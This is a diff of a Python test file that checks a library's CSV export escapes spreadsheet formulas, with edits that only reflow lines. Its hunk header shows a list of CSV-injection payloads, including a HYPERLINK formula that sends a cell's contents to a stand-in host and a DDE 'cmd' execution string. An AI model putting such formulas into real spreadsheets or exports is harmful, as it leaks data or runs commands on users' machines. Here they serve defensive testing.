@@ -15,8 +15,8 @@ EVIL = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")", "+1+cmd|' /C ca
 
 def _library_with_formulas(lib, tmp_path: Path):
     doc = tmp_path / "formulas.txt"
-    doc.write_text("\n\n".join(f"{i}. {t} zanzibar lighthouse" for i, t in enumerate(EVIL, start=1)) + "\n",
-                   encoding="utf-8")
+    doc.write_text("\n\n".join(f"{i}. {t} zanzibar lighthouse" for i, t in enumerate(EVIL, start=1))
+                   + "\n", encoding="utf-8")
     return lib.add(doc)
 
 
@@ -32,7 +32,8 @@ def test_csv_download_of_the_page_escapes_formulas(fake_lib, tmp_path):
     texts = [r["text"] for r in rows if "zanzibar" in r["text"]]
     assert len(texts) == len(EVIL)
     assert all(t.startswith("'") and t[1:2] in "=+-@" for t in texts), texts
-    assert sorted(t[1:] for t in texts) == sorted(f"{e} zanzibar lighthouse" for e in EVIL)  # nothing else changed
+    # nothing else changed
+    assert sorted(t[1:] for t in texts) == sorted(f"{e} zanzibar lighthouse" for e in EVIL)
 
 
 def test_batch_csv_as_printed_by_search_csv_escapes_formulas_in_query_and_text(fake_lib, tmp_path):
